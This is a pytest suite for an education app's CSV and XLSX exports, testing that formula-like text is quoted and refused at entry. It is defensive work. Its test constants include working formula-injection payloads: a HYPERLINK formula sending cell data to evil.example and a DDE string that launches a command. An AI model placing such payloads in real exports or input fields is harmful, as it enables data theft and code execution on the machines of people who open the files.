"""Exports are data, not formulas: the helper itself, every CSV/XLSX the app writes, and names refused at the door."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select, update

from learnspace import exports
from tests.fixtures.people import batch_xlsx, issue_codes, issue_reset_code, signed_in, token_from
from tests.fixtures.stats import RANGE, build_stats_world

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
EVIL_SCHOOL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
EVIL_COUNTY = "+cmd|' /C calc'!A0"
EVIL_CITY = "@SUM(1+1)"
EVIL_SCHOOL_2 = "-2+3"
EVIL_GRADE = "\t=1+1"
EVIL_CLASS = "=2*3"
EVIL_PERSON = "=CONCAT(A1)"


# --- the helper ------------------------------------------------------------------------------

@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("芙蓉区第一小学", "芙蓉区第一小学"), ("a=b", "a=b"), ("", ""),
])
def test_safe_text_quotes_only_a_formula_like_start(text, expected):
    assert exports.safe_text(text) == expected


def test_cell_values_keep_numbers_and_neutralise_text():
    assert exports.cell_value(3) == 3 and isinstance(exports.cell_value(66.7), float)
    assert exports.cell_value(-5) == -5  # a negative number is data, not a formula
    assert exports.cell_value(None) == ""
    assert exports.cell_value(True) == "是"
    assert exports.cell_value("-5") == "'-5"


def test_csv_bytes_has_a_bom_crlf_and_quoted_formulas():
    data = exports.csv_bytes([["单位", "人数"], [EVIL_SCHOOL, 6], ["芙蓉区", None]])
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["单位", "人数"], ["'" + EVIL_SCHOOL, "6"], ["芙蓉区", ""]]


def test_append_row_writes_strings_never_formulas():
    book = Workbook()
    sheet = book.active
    exports.append_row(sheet, ["单位", "人数"])
    exports.append_row(sheet, [EVIL_SCHOOL, 6, 66.7, None])
    back = load_workbook(io.BytesIO(exports.workbook_bytes(book))).active
    assert [c.value for c in back[1]][:2] == ["单位", "人数"]
    cells = back[2]
    assert cells[0].data_type == "s" and cells[0].value == "'" + EVIL_SCHOOL
    assert cells[1].value == 6 and cells[1].data_type == "n" and cells[2].value == 66.7


@pytest.mark.parametrize("text, unsafe", [
    ("=x", True), ("+x", True), ("-x", True), ("@x", True), ("\tx", True), ("a<b", True), ("a\rb", True),
    ("芙蓉区第一小学", False), ("A-1 中学", False), ("", False), (None, False),
])
def test_unsafe_text_is_the_roster_rule(text, unsafe):
    assert exports.unsafe_text(text) is unsafe


# --- every export of the app, with legacy hostile names --------------------------------------

def _assert_data_only(rows, where):
    """No cell is a formula and no text cell starts with a formula character."""
    for row in rows:
        for value in row:
            if isinstance(value, str):
                assert not value.startswith(FORMULA_START), (where, value)


def _xlsx_rows(body: bytes, where: str) -> list[list]:
    book = load_workbook(io.BytesIO(body))
    rows = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, sheet.title, cell.coordinate, cell.value)
            rows.append([cell.value for cell in row])
    _assert_data_only(rows, where)
    return rows


def _csv_rows(body: bytes, where: str) -> list[list]:
    assert body.startswith(b"\xef\xbb\xbf"), where
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    _assert_data_only(rows, where)
    return rows


@pytest.fixture
def hostile(app, world):
    """The statistics world with region, school, class and person names written straight into the DB."""
    from learnspace.accounts.models import User
    from learnspace.extensions import db
    from learnspace.orgs.models import Region, School

    sw = build_stats_world(app, world)
    with app.app_context():
        db.session.execute(update(School).where(School.code == world.schools["a1"]).values(name=EVIL_SCHOOL))
        db.session.execute(update(School).where(School.code == world.schools["a2"]).values(name=EVIL_SCHOOL_2))
        db.session.execute(update(Region).where(Region.code == "430102").values(name=EVIL_COUNTY))
        db.session.execute(update(Region).where(Region.code == "430100").values(name=EVIL_CITY))
        student = db.session.scalar(select(User).where(User.real_name == "赵小雨"))  # not activated, in 2班
        db.session.execute(update(User).where(User.grade == "三年级", User.class_name == "2班")
                           .values(grade=EVIL_GRADE, class_name=EVIL_CLASS))
        student.real_name = EVIL_PERSON
        db.session.commit()
    return sw


def _user_id_named(app, real_name: str) -> int:
    from learnspace.accounts.models import User
    from learnspace.extensions import db

    with app.app_context():
        return db.session.scalar(select(User.id).where(User.real_name == real_name))


def test_every_export_is_data_even_with_hostile_names(app, hostile, tmp_path):
    """Statistics and ranking (CSV, XLSX, web and CLI), activation and reset codes: no formulas, names quoted."""
    from learnspace.cli import main

    seen = []
    province = signed_in(app, hostile.admins["province"])
    for query in ({}, {"region": "430100"}, {"region": "430102"}, {"school": hostile.schools["a1"]}):
        for fmt in ("csv", "xlsx"):
            response = province.get(f"/stats/export.{fmt}", query_string={**RANGE, **query})
            assert response.status_code == 200, (query, fmt)
            parse = _csv_rows if fmt == "csv" else _xlsx_rows
            seen += parse(response.get_data(), f"export {query} {fmt}")
    for level in ("city", "county", "school"):
        for fmt in ("csv", "xlsx"):
            response = province.get(f"/stats/ranking/export.{fmt}", query_string={**RANGE, "level": level})
            assert response.status_code == 200, (level, fmt)
            parse = _csv_rows if fmt == "csv" else _xlsx_rows
            seen += parse(response.get_data(), f"ranking {level} {fmt}")

    runner = app.test_cli_runner()
    base = ["stats", "activation", "--region", "430102", "--from", RANGE["from"], "--to", RANGE["to"]]
    for fmt in ("csv", "xlsx"):
        target = tmp_path / f"out.{fmt}"
        result = runner.invoke(main, base + ["--format", fmt, "--output", str(target)])
        assert result.exit_code == 0, result.output
        parse = _csv_rows if fmt == "csv" else _xlsx_rows
        seen += parse(target.read_bytes(), f"cli {fmt}")

    client = signed_in(app, hostile.admins["platform"])
    printed = issue_codes(client, hostile.schools["a1"], EVIL_GRADE, EVIL_CLASS)
    response = batch_xlsx(client, printed)
    assert response.status_code == 200
    codes = _xlsx_rows(response.get_data(), "activation codes")
    assert codes[0][0].startswith("'" + EVIL_SCHOOL)
    assert codes[2][0] == "'" + EVIL_PERSON and codes[2][3:5] == ["'" + EVIL_GRADE, "'" + EVIL_CLASS]
    # A reset-code batch for one person: the same export helper, the same guarantees.
    evil = _user_id_named(app, EVIL_PERSON)
    response = batch_xlsx(client, issue_reset_code(client, evil))
    assert response.status_code == 200
    resets = _xlsx_rows(response.get_data(), "reset codes")
    assert resets[0][0].startswith("'" + EVIL_SCHOOL) and resets[1][5] == "重置码"
    assert resets[2][0] == "'" + EVIL_PERSON and resets[2][3:5] == ["'" + EVIL_GRADE, "'" + EVIL_CLASS]

    # The hostile names did reach the exports, as quoted text, so the checks above looked at them.
    text = {v for row in seen for v in row if isinstance(v, str)}
    for name in (EVIL_SCHOOL, EVIL_SCHOOL_2, EVIL_COUNTY, EVIL_CITY):
        assert any(v.startswith("'" + name) for v in text), name
    assert any(v.startswith("'" + EVIL_GRADE) for v in text)
    numbers = [v for row in seen for v in row if isinstance(v, (int, float))]
    assert numbers, "XLSX figures stay numbers"


# --- names refused when created -------------------------------------------------------------

def _counts(app):
    from learnspace.extensions import db
    from learnspace.orgs.models import Region, School

    with app.app_context():
        return (db.session.scalar(select(func.count()).select_from(Region)),
                db.session.scalar(select(func.count()).select_from(School)))


@pytest.mark.parametrize("name", [EVIL_SCHOOL, "+1", "-1", "@x", "芙蓉\t区", "实验<b>小学"])
def test_web_forms_refuse_formula_like_region_and_school_names(app, world, name):
    client = signed_in(app, world.admins["platform"])
    before = _counts(app)
    token = token_from(client, "/admin/roster")
    response = client.post("/admin/regions", data={"code": "430103", "name": name, "csrf_token": token})
    assert response.status_code == 400 and "区划名称" in response.get_data(as_text=True)
    response = client.post("/admin/schools", data={"code": "4301020099", "name": name, "stage": "小学",
                                                   "county_code": "430102", "csrf_token": token})
    assert response.status_code == 400 and "不能以 = + - @ 开头" in response.get_data(as_text=True)
    assert _counts(app) == before


@pytest.mark.parametrize("name", [EVIL_SCHOOL, "-1", "@x"])
def test_cli_refuses_formula_like_region_and_school_names(app, world, name):
    from learnspace.cli import main

    before = _counts(app)
    runner = app.test_cli_runner()
    result = runner.invoke(main, ["add-region", "--", "430103", name])
    assert result.exit_code != 0 and "区划名称" in result.output and "不能以 = + - @ 开头" in result.output
    result = runner.invoke(main, ["add-school", "--stage", "小学", "--county", "430102", "--", "4301020099", name])
    assert result.exit_code != 0 and "学校名称" in result.output and "不能以 = + - @ 开头" in result.output
    assert _counts(app) == before
